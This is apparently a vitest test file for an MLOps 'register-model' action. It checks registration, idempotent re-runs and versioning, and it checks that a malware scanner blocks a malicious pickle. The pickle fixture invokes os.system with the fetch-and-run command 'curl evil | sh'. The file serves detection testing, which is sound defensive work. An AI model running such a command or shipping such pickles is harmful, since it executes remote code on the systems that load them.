import { promises as fs } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { silentLogger } from "@mlops/core";
import { LocalRegistry } from "@mlops/registry";
import { runAction } from "@mlops/testkit";
import { callPickle } from "../../packages/scan/test-support/builders.js";
import { pickledText, runRecord } from "./fixtures/run-record.js";

async function workspace(): Promise<string> {
  const ws = await fs.mkdtemp(path.join(os.tmpdir(), "mlops-register-ws-"));
  await fs.mkdir(path.join(ws, "out"));
  await fs.writeFile(path.join(ws, "out/model.pkl"), pickledText("pickled forest"));
  await fs.writeFile(path.join(ws, "out/run.json"), JSON.stringify(runRecord()));
  return ws;
}

// register-model's bundle as the runner runs it, with the local registry. Every case runs the
// bundle (actions/register-model/dist/index.js), so the file is a *.bundle.test.ts and runs in the
// bundled run (`npm run test:bundled`) only, not in `npm test`. Registering, model-scan, mlops.yml's
// defaults, a hostile model name and a failed training run are asserted on its main in-process
// (actions/register-model/src/main.test.ts): a bundled run costs a Node process.
describe("register-model (bundled) with the local registry", () => {
  it("registers from a run record, and a re-run attempt of the same job creates nothing", async () => {
    const ws = await workspace();
    const inputs = {
      model: "weather",
      "run-record": "out/run.json",
      aliases: "staging",
      tags: "team: forecast",
    };
    const first = await runAction("register-model", { cwd: ws, inputs });
    expect(first.exitCode, first.stdout + first.stderr).toBe(0);
    expect(first.outputs).toEqual({
      version: "1",
      "model-uri": "models:/weather/1",
      created: "true",
      aliases: '["staging"]',
    });
    expect(first.stdout).toContain("registry: auto → local (no token given)");
    expect(first.summary).toContain("Registered weather version 1");

    const registry = new LocalRegistry({ root: path.join(ws, ".mlops/registry"), logger: silentLogger });
    const v = await registry.resolve("weather", "staging");
    expect(v.metrics).toEqual({ accuracy: 0.91, f1: 0.88 });
    expect(v.params).toEqual({ n_estimators: 100, max_depth: 8 });
    expect(v.tags).toEqual({ team: "forecast" });
    expect(v.lineage).toMatchObject({
      gitSha: "0123456789abcdef0123456789abcdef01234567",
      workflowRunId: "4242",
    });
    expect(v.idempotencyKey).toBe("octo-org/ml-repo/runs/4242/jobs/ml/models/weather");

    // Deployed to production meanwhile: the re-run's outputs say which environments serve it.
    await registry.setAlias("weather", "production", 1);
    const rerun = await runAction("register-model", { cwd: ws, inputs, runAttempt: 2 });
    expect(rerun.exitCode, rerun.stderr).toBe(0);
    expect(rerun.outputs).toEqual({
      version: "1",
      "model-uri": "models:/weather/1",
      created: "false",
      aliases: '["production","staging"]',
    });
    expect((await registry.list("weather")).length).toBe(1);

    // Another run (a retrain: new bytes; byte-identical files would be version 1 again) registers
    // version 2; metrics from a metrics file win over the run record's.
    await fs.writeFile(path.join(ws, "out/model.pkl"), pickledText("pickled forest, retrained"));
    await fs.writeFile(path.join(ws, "out/metrics.json"), JSON.stringify({ accuracy: 0.95 }));
    const next = await runAction("register-model", {
      cwd: ws,
      inputs: { ...inputs, metrics: "out/metrics.json" },
      facts: { runId: "4243" },
    });
    expect(next.outputs).toMatchObject({ version: "2", created: "true" });
    expect((await registry.get("weather", 2)).metrics).toEqual({ accuracy: 0.95 });
  });

  it("model-scan (bundled, scanner loaded lazily): a pickle REDUCE-ing os.system registers nothing; warn registers it", async () => {
    const ws = await workspace();
    await fs.writeFile(path.join(ws, "out/model.pkl"), callPickle("os", "system", "curl evil | sh"));
    const inputs = { model: "weather", "model-path": "out/model.pkl" };
    const refused = await runAction("register-model", { cwd: ws, inputs });
    expect(refused.exitCode, refused.stdout).toBe(1);
    expect(refused.stdout).toMatch(
      /::error::out\/model\.pkl: imports os\.system \(dangerous: .+\); registered nothing/,
    );
    expect(refused.stdout).toMatch(
      /::error::model scan: out\/model\.pkl byte \d+: dangerous: imports os\.system/,
    );
    expect(refused.outputs).toEqual({});
    await expect(fs.access(path.join(ws, ".mlops"))).rejects.toThrow();

    const warned = await runAction("register-model", {
      cwd: ws,
      inputs: { ...inputs, "model-scan": "warn" },
    });
    expect(warned.exitCode, warned.stdout).toBe(0);
    expect(warned.stdout).toMatch(
      /::warning::model scan: out\/model\.pkl byte \d+: dangerous: imports os\.system/,
    );
    expect(warned.summary).toContain(
      "model scan: dangerous — 1 global in 1 file; model.pkl: imports os.system",
    );
    const registry = new LocalRegistry({ root: path.join(ws, ".mlops/registry"), logger: silentLogger });
    const v = await registry.get("weather", 1);
    expect(v.scan).toMatchObject({ verdict: "dangerous", globals: [{ module: "os", name: "system" }] });
  });
});
